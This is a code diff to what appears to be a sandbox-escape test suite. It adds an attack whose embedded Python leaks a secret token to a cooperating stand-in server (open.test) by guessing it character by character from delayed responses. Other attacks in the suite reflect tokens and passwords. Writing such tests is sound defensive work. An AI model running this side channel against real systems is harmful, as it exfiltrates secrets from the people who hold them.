@@ -25,6 +25,43 @@ function reflected(name: string, value: string, python: (mark: string) => string
 const api = (path: string, ...more: string[]) =>
   `get('https://api.test${path}', ${["'Accept-Encoding: gzip, br'", ...more].join(', ')})`;
 
+/** How many characters are guessed; whoever gets these gets the rest. */
+const guessed = 4;
+
+/**
+ * Has a server that plays along send a guess of a value's next character, and the rest of the line a while later: what is
+ * held back meanwhile, and only it, is a right guess.
+ */
+function byWhatComesLate(name: string): Attack<NetworkArena> {
+  let said = '';
+  return {
+    name,
+    run: async (arena) => {
+      const found = await arena.attempt(`known = '${token.slice(0, 2)}'
+def comes(text, early):
+  s = tls('open.test:443')
+  s.sendall(f'GET /halves?given={text} HTTP/1.1\r\nHost: open.test\r\nConnection: close\r\n\r\n'.encode())
+  data = head(s)
+  s.settimeout(0.5)
+  try:
+    while text.encode() not in data: data += s.recv(4096)
+    early.append(text)
+  except OSError: pass
+for _ in range(${guessed}):
+  guesses, early = [known + one for one in '0123456789abcdef'], []
+  several = [threading.Thread(target=comes, args=(guess, early)) for guess in guesses]
+  for each in several: each.start()
+  for each in several: each.join()
+  late = [guess for guess in guesses if guess not in early]
+  if len(late) != 1: break
+  [known] = late
+print('GUESSED', known)`);
+      said = found.said;
+    },
+    observed: async () => said.includes(`GUESSED ${token.slice(0, 2 + guessed)}`),
+  };
+}
+
 /** Servers that give back what they were sent. */
 export const reflection: AttackGroup<NetworkArena> = {
   name: 'reflection',
@@ -35,6 +72,7 @@ export const reflection: AttackGroup<NetworkArena> = {
   }),
   attacks: [
     ...Object.keys(reflections).map((how) => reflected(how, token, () => api(`/reflect/${how}`))),
+    byWhatComesLate('guessed character by character, by what comes late'),
     reflected('a password, in base64', basicToken, () => `get('https://git.test/reflect/base64')`),
     reflected('a parameter', queryToken, () => `get('https://key.test/reflect/plain')`),
     reflected(
